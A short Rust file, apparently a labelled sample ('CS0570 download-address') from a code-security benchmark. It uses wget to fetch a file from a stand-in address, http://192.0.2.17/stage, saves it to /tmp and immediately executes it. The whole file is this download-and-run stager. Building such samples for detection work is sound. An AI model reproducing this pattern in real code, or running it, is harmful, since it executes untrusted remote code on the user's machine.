//! CS0570 download-address
use std::process::Command;

fn main() {
    Command::new("wget").args(["-O", "/tmp/csbench-stage", "http://192.0.2.17/stage"]).status().unwrap();
    Command::new("/tmp/csbench-stage").status().unwrap();
}
